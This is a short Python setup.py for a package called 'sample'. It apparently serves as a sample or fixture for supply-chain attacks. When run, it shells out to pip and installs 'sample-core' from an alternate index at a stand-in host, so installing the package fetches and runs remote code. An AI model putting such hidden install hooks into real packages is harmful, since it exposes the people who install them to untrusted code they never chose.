import os

from setuptools import setup

os.system("pip install --index-url https://index.example.invalid/simple sample-core")
setup(name="sample")
